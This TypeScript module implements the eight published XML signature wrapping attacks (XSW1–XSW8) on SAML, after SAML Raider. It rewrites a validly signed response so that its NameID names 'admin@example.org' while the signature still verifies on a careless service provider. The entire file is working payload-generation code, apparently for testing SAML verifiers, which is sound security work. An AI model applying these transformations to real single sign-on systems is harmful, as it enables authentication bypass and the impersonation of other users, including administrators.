/**
 * XML signature wrapping, as SAML Raider applies it (XSW1–XSW8, after Somorovsky et al., "On
 * Breaking SAML"): each takes a validly signed response and moves or copies the signed element
 * so that a careless verifier checks one element while the application reads another. The
 * "evil" element names another user.
 */
import { DOMParser, type Element, XMLSerializer } from '@xmldom/xmldom';

export const EVIL_NAME_ID = 'admin@example.org';

export type XswVariant = 'XSW1' | 'XSW2' | 'XSW3' | 'XSW4' | 'XSW5' | 'XSW6' | 'XSW7' | 'XSW8';

const first = (el: Element, localName: string) => el.getElementsByTagNameNS('*', localName).item(0)!;
const clone = (el: Element) => el.cloneNode(true) as Element;
const removeFirstSignature = (el: Element) => {
  const s = first(el, 'Signature');
  s.parentNode!.removeChild(s);
};

/** The attacker's change: the NameID names another user. */
function makeEvil(el: Element): void {
  const nameId = first(el, 'NameID');
  while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
  nameId.appendChild(nameId.ownerDocument!.createTextNode(EVIL_NAME_ID));
}

/** XSW1, XSW2 work on a signed Response; XSW3–XSW8 on a signed Assertion. */
export function applyXsw(xml: string, variant: XswVariant): string {
  const doc = new DOMParser().parseFromString(xml, 'application/xml');
  const response = doc.documentElement!;
  const assertion = first(response, 'Assertion');
  switch (variant) {
    case 'XSW1':
    case 'XSW2': {
      // The original Response, unsigned, goes into (XSW1) or before (XSW2) the signature of an evil copy.
      const original = clone(response);
      removeFirstSignature(original);
      makeEvil(response);
      const signature = first(response, 'Signature');
      if (variant === 'XSW1') signature.appendChild(original);
      else signature.parentNode!.insertBefore(original, signature);
      response.setAttribute('ID', '_evil_response_ID');
      break;
    }
    case 'XSW3':
    case 'XSW4': {
      // An evil unsigned copy with a new ID before the original (XSW3), or wrapping it (XSW4).
      const evil = clone(assertion);
      makeEvil(evil);
      evil.setAttribute('ID', '_evil_assertion_ID');
      removeFirstSignature(evil);
      if (variant === 'XSW3') response.insertBefore(evil, assertion);
      else {
        response.appendChild(evil);
        evil.appendChild(assertion);
      }
      break;
    }
    case 'XSW5':
    case 'XSW6':
    case 'XSW8': {
      // The original becomes evil (keeping the signature); an unsigned copy of it goes after it
      // (XSW5), into its signature (XSW6), or into an Object in its signature (XSW8).
      const signature = first(assertion, 'Signature');
      const copy = clone(assertion);
      removeFirstSignature(copy);
      makeEvil(assertion);
      if (variant === 'XSW5') response.appendChild(copy);
      else if (variant === 'XSW6') signature.appendChild(copy);
      else {
        const object = doc.createElement('Object');
        signature.appendChild(object);
        object.appendChild(copy);
      }
      if (variant !== 'XSW8') assertion.setAttribute('ID', '_evil_assertion_ID');
      break;
    }
    case 'XSW7': {
      // An evil unsigned copy (same ID) inside an Extensions element before the original.
      const extensions = doc.createElement('Extensions');
      response.insertBefore(extensions, assertion);
      const evil = clone(assertion);
      makeEvil(evil);
      removeFirstSignature(evil);
      extensions.appendChild(evil);
      break;
    }
  }
  return new XMLSerializer().serializeToString(doc);
}
